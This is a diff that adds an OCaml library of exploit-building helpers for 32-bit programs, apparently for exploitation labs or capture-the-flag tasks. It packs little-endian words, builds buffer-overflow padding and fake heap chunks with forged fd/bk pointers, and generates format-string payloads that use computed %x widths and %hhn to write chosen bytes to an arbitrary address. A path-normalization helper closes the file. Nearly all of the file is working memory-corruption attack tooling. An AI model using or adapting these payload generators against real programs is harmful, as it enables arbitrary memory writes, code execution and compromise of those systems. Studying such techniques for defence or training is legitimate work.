@@ -1,0 +1,81 @@
+let le_word v =
+  String.init 4 (fun i -> Char.chr ((v lsr (8 * i)) land 0xff))
+
+let fill ?(byte = 'a') n = String.make n byte
+
+let overflow_word ~pad ?byte v = fill ?byte pad ^ le_word v
+
+let fake_chunk ~size ~fd ~bk =
+  assert (size land 1 = 0);
+  le_word size ^ le_word fd ^ le_word bk
+
+(* Format-string write primitive.
+
+   Payload shape:   %8x ... %8x  %Wx%hhn %Wx%hhn ...  <pad>  J A0 J A1 ...
+                    `--- k ---'  `---- one per byte ----'     address block
+
+   The argument pointer starts [ap_skip_words] words below the buffer;
+   each %8x consumes one word; each %Wx consumes one junk word J and
+   each %hhn one planted address.  The address block must begin
+   exactly where the (k+1)-th consumed word lies, i.e. at byte offset
+   4*(k - ap_skip_words); k is the smallest count that leaves room for
+   the directive text.  Widths are >= 9 so every %x prints exactly its
+   width, making the output count — the value %hhn stores —
+   deterministic. *)
+let format_write_bytes ~ap_skip_words ~target ~bytes =
+  let n = List.length bytes in
+  let widths_for k =
+    let current = ref (8 * k) in
+    List.map
+      (fun b ->
+        let delta = ref (((b land 0xff) - !current) mod 256) in
+        while !delta < 9 do
+          delta := !delta + 256
+        done;
+        current := !current + !delta;
+        !delta)
+      bytes
+  in
+  let text_len k widths =
+    (3 * k)
+    + List.fold_left (fun acc w -> acc + 2 + String.length (string_of_int w) + 4) 0 widths
+  in
+  let rec solve k =
+    if k > 4096 then invalid_arg "format_write_bytes: no payload layout found";
+    let widths = widths_for k in
+    let room = 4 * (k - ap_skip_words) in
+    if room >= text_len k widths then (k, widths) else solve (k + 1)
+  in
+  let k, widths = solve (ap_skip_words + 1) in
+  let buf = Buffer.create 256 in
+  for _ = 1 to k do
+    Buffer.add_string buf "%8x"
+  done;
+  List.iter (fun w -> Buffer.add_string buf (Printf.sprintf "%%%dx%%hhn" w)) widths;
+  let pad = (4 * (k - ap_skip_words)) - Buffer.length buf in
+  Buffer.add_string buf (String.make pad 'P');
+  List.iteri
+    (fun i _ ->
+      Buffer.add_string buf "JNKW";
+      Buffer.add_string buf (le_word (target + i)))
+    (List.init n Fun.id);
+  Buffer.contents buf
+
+let format_write_word ~ap_skip_words ~target ~value =
+  format_write_bytes ~ap_skip_words ~target
+    ~bytes:[ value land 0xff; (value lsr 8) land 0xff; (value lsr 16) land 0xff;
+             (value lsr 24) land 0xff ]
+
+let normalize_path path =
+  let absolute = String.length path > 0 && path.[0] = '/' in
+  let parts = String.split_on_char '/' path in
+  let stack =
+    List.fold_left
+      (fun acc part ->
+        match part with
+        | "" | "." -> acc
+        | ".." -> (match acc with [] -> [] | _ :: rest -> rest)
+        | p -> p :: acc)
+      [] parts
+  in
+  (if absolute then "/" else "") ^ String.concat "/" (List.rev stack)
